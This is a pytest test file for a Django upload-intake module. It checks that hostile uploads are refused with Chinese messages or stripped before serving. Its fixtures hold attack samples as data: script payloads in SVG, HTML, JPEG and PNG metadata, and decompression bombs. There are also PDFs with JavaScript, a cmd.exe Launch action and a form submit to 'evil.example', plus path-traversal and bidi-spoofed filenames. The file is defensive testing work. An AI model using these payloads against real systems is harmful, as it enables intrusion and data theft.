"""What strangers may try: everything is refused in words, or made harmless."""

import io
import resource
import subprocess
import sys
import zipfile
from contextlib import suppress

import pikepdf
import pytest
from django.conf import settings as django_settings
from django.core.files.storage import default_storage
from hypothesis import HealthCheck, given
from hypothesis import settings as examples
from hypothesis import strategies as st

from files import limits, names
from files.intake import Refused, receive
from files.models import StoredFile
from tests.files import made

DAMAGED = "这张照片损坏或不完整，请重新拍摄后上传。"
DAMAGED_PDF = "这个 PDF 文件损坏或不完整，请重新导出后上传。"
UNKNOWN = "只能上传照片（JPG、PNG、WebP、HEIC）或 PDF 文件。"
OFFICE = "不能上传 Word、Excel、PPT 或压缩包，请另存为 PDF 后上传。"
ACTIVE = "这个 PDF 含有脚本、表单程序或自动操作，请打印为 PDF 后上传。"
EMBEDS = "这个 PDF 内嵌了其他文件或音视频，请打印为 PDF 后上传。"
ENCRYPTED = "这个 PDF 设置了密码或加密，请去除密码后上传。"


def refusal(content: bytes, user, name: str = "photo.jpg") -> str:
    """Why `content` is refused; also checks that nothing of it stays behind."""
    with pytest.raises(Refused) as caught:
        receive(made.upload(content, name), by=user)
    assert list(StoredFile.objects.all()) == []
    assert default_storage.listdir("")[0] == ["incoming"]
    assert default_storage.listdir("incoming") == ([], [])
    return caught.value.message


def served(file: StoredFile) -> bytes:
    with default_storage.open(file.name) as full, default_storage.open(file.thumb_name) as thumb:
        return full.read() + thumb.read()


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        pytest.param(b"", "这个文件是空的，请重新选择后上传。", id="nothing"),
        pytest.param(b"\xff\xd8\xff", DAMAGED, id="only the magic of a JPEG"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + b"\0" * 100, DAMAGED, id="only the magic of a PNG"),
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", UNKNOWN, id="SVG"),
        pytest.param(b"<!DOCTYPE html><script>alert(1)</script>", UNKNOWN, id="HTML"),
        pytest.param(b"MZ\x90\0" + b"\0" * 100, UNKNOWN, id="a Windows program"),
        pytest.param(b" " + made.jpeg(), UNKNOWN, id="a JPEG that starts one byte late"),
        pytest.param(b"\n" + made.pdf(), UNKNOWN, id="a PDF that starts one byte late"),
        pytest.param(made.encoded(made.scene(), "BMP"), UNKNOWN, id="BMP"),
        pytest.param(made.encoded(made.scene(), "TIFF"), UNKNOWN, id="TIFF"),
        pytest.param(docx(), OFFICE, id="docx"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, OFFICE, id="doc"),
        pytest.param(b"%PDF-1.7\n" + b"garbage " * 50, DAMAGED_PDF, id="only the magic of a PDF"),
    ],
)
def test_what_is_neither_photo_nor_pdf_is_refused_whatever_its_name_says(user, content, words):
    assert refusal(content, user) == words


@pytest.mark.parametrize("kept", [0.02, 0.3, 0.6, 0.98])
@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_truncated_photo_is_refused(user, kind, kept):
    content = made.encoded(made.scene(), kind)
    assert refusal(content[: int(len(content) * kept)], user) == DAMAGED


def test_a_truncated_heic_photo_is_refused(user):
    content = made.heic()
    assert refusal(content[: len(content) // 2], user) == DAMAGED


@pytest.mark.parametrize("kind", ["PNG", "WEBP", "GIF"])
def test_an_animated_picture_is_refused(user, kind):
    content = made.encoded(made.scene(1), kind, save_all=True, append_images=[made.scene(2)], duration=100)
    assert refusal(content, user) == "不能上传动图或连拍合集，请上传单张照片。"


def test_a_picture_with_too_long_a_side_is_refused(user):
    assert refusal(made.png_of_nothing(12_001, 10), user) == "照片过长（一边超过 12000 像素），请裁剪后上传。"


def peak_megabytes(tmp_path, content: bytes) -> int:
    """Memory one decoding process takes at most for `content`."""
    source = tmp_path / "source"
    source.write_bytes(content)
    measure = (
        "import subprocess, resource, sys; subprocess.run(sys.argv[1:], capture_output=True); "
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)"
    )
    decode = [sys.executable, "-m", "files.decode.photo", source, tmp_path / "full", tmp_path / "thumb"]
    done = subprocess.run(
        [sys.executable, "-c", measure, *decode],
        cwd=django_settings.BASE_DIR,
        capture_output=True,
        check=True,
    )
    return int(done.stdout)


def test_a_decompression_bomb_is_refused_without_being_unpacked(user, tmp_path):
    bomb = made.png_of_nothing(11_990, 11_990, colour_type=6, channels=4)
    assert len(bomb) < limits.MAX_UPLOAD_BYTES // 20
    assert refusal(bomb, user) == "照片像素过大（超过 5000 万像素），请用普通模式重新拍摄后上传。"
    assert peak_megabytes(tmp_path, bomb) < 60


def test_the_largest_allowed_picture_stays_within_the_memory_limit(user, tmp_path):
    largest = made.png_of_nothing(8192, 6144, colour_type=6, channels=4)
    assert receive(made.upload(largest), by=user).width == 4096
    assert peak_megabytes(tmp_path, largest) < limits.DECODE_MEMORY_BYTES // limits.MIB * 0.8


def test_a_decoder_that_needs_more_memory_than_allowed_dies_alone():
    hungry = "import sys; sys.argv = ['x']; from files.decode import cage; cage.run(lambda: bytearray(1700 * 2**20))"
    done = subprocess.run(
        [sys.executable, "-c", hungry], cwd=django_settings.BASE_DIR, capture_output=True, check=True
    )
    assert done.stdout == b'{"refused": "too_heavy"}'
    assert resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY


def test_script_in_the_comment_and_behind_the_end_of_a_jpeg_is_not_served(user):
    polyglot = made.jpeg(comment=b"<script>alert(1)</script>") + b"<html><script>alert(2)</script>"
    assert polyglot.count(b"<script>") == 2
    file = receive(made.upload(polyglot, "a.html", "text/html"), by=user)
    assert served(file).count(b"script") == 0
    assert file.name.endswith(".jpg")


def test_script_in_the_metadata_of_a_png_is_not_served(user):
    payload = b"<script>alert(1)</script>"
    content = made.encoded(made.scene(), "PNG", icc_profile=payload, exif=b"Exif\0\0" + payload)
    file = receive(made.upload(content, "a.png"), by=user)
    assert served(file).count(b"script") == 0


# --- PDF ---------------------------------------------------------------------------------------------
def action(**entries):
    return pikepdf.Dictionary({f"/{key}": value for key, value in entries.items()})


def javascript():
    return action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def on_open(document):
    document.Root.OpenAction = javascript()


def in_name_tree(document):
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["x", javascript()]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def on_page(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(O=document.make_indirect(javascript()))


def deep_in_an_annotation(document):
    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=action(S=pikepdf.Name.GoTo, Next=[javascript()]))
    document.pages[0].obj.Annots = pikepdf.Array([link])


def launching(document):
    document.Root.OpenAction = action(S=pikepdf.Name.Launch, F="cmd.exe")


def submitting(document):
    document.Root.OpenAction = action(S=pikepdf.Name.SubmitForm, F="http://evil.example/")


def with_xfa(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=pikepdf.Array([]))


def embedding(document):
    document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="a.exe")


def with_film(document):
    film = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Screen)
    document.pages[0].obj.Annots = pikepdf.Array([film])


@pytest.mark.parametrize("packed", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
@pytest.mark.parametrize(
    ("change", "words"),
    [
        (on_open, ACTIVE),
        (in_name_tree, ACTIVE),
        (on_page, ACTIVE),
        (deep_in_an_annotation, ACTIVE),
        (launching, ACTIVE),
        (submitting, ACTIVE),
        (with_xfa, ACTIVE),
        (embedding, EMBEDS),
        (with_film, EMBEDS),
    ],
)
def test_a_pdf_that_can_act_or_carries_something_is_refused(user, change, words, packed):
    assert refusal(made.pdf(change, object_stream_mode=packed), user, "报告.pdf") == words


def test_a_script_whose_name_is_spelt_in_hex_is_refused(user):
    content = made.pdf(on_open).replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/JS", b"/J#53")
    assert refusal(content, user) == ACTIVE


@pytest.mark.parametrize("password", ["", "geheim"])
def test_an_encrypted_pdf_is_refused_with_and_without_a_password_to_open_it(user, password):
    content = made.pdf(encryption=pikepdf.Encryption(owner="owner", user=password))
    assert refusal(content, user) == ENCRYPTED


def test_a_pdf_of_201_pages_is_refused(user):
    assert refusal(made.pdf(pages=201), user) == "PDF 超过 200 页，请只上传需要的页面。"


def test_what_is_hidden_behind_the_end_of_a_pdf_is_not_served(user):
    file = receive(made.upload(made.pdf(pages=3) + b"<script>alert(1)</script>", "检测报告.pdf"), by=user)
    with default_storage.open(file.name) as full:
        content = full.read()
    assert (file.kind, file.pages, content[:5], content.count(b"script")) == ("pdf", 3, b"%PDF-", 0)


# --- sizes and names ---------------------------------------------------------------------------------
def test_a_file_of_more_than_20_megabytes_is_refused(user):
    content = made.jpeg() + bytes(limits.MAX_UPLOAD_BYTES)
    assert refusal(content, user) == "文件超过 20 MB，请压缩或重新拍摄后上传。"


def test_a_file_that_lies_about_its_size_is_refused_while_it_streams(user):
    upload = made.upload(made.jpeg() + bytes(limits.MAX_UPLOAD_BYTES))
    upload.size = 1000
    with pytest.raises(Refused) as caught:
        receive(upload, by=user)
    assert caught.value.status == 413


def test_nothing_is_accepted_when_the_disk_is_nearly_full(user, settings):
    settings.UPLOAD_MIN_FREE_BYTES = 10**18
    assert refusal(made.jpeg(), user) == "服务器存储空间不足，暂时不能上传文件，请联系系统管理员。"


@pytest.mark.parametrize(
    ("given_name", "shown"),
    [
        ("消" * 300 + ".jpg", "消" * 115 + "….jpg"),
        ("消" * 300, "消" * 119 + "…"),
        ("a\u202egpj.exe\u200b.jpg", "agpj.exe.jpg"),
        ("a\0b\r\nc\x1b[31m.jpg", "abc[31m.jpg"),
        ("../../etc/passwd", "passwd"),
        ("C:\\照片\\走廊.jpg", "走廊.jpg"),
        ("e\u0301.jpg", "é.jpg"),
        ("  走廊   东侧 .jpg", "走廊 东侧 .jpg"),
        ("\u202e\u202d", "照片.jpg"),
        ("..", "照片.jpg"),
        (None, "照片.jpg"),
    ],
)
def test_the_shown_name_is_clean_and_never_a_path(given_name, shown):
    assert names.display_name(given_name, "image") == shown


def test_a_chinese_name_of_300_characters_is_accepted(user):
    file = receive(made.upload(made.jpeg(), "消防通道" * 75 + ".jpg"), by=user)
    assert (len(file.display_name), len(file.name)) == (120, 74)


@given(st.text(max_size=400))
def test_any_name_can_be_shown_and_stored(text):
    shown = names.display_name(text, "pdf")
    assert 0 < len(shown) <= 120
    assert not set(shown) & set("/\\\0\r\n\u202e")


HONEST = {
    "photo.jpg": made.jpeg(size=(160, 120)),
    "a.webp": made.encoded(made.scene(), "WEBP"),
    "a.pdf": made.pdf(),
}


@pytest.mark.parametrize("name", HONEST)
@examples(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_broken_bytes_are_taken_in_or_refused_in_words(user, name, data):
    content = bytearray(HONEST[name])
    for _ in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    with suppress(Refused):
        receive(made.upload(bytes(content), name), by=user)
    StoredFile.objects.all().delete()
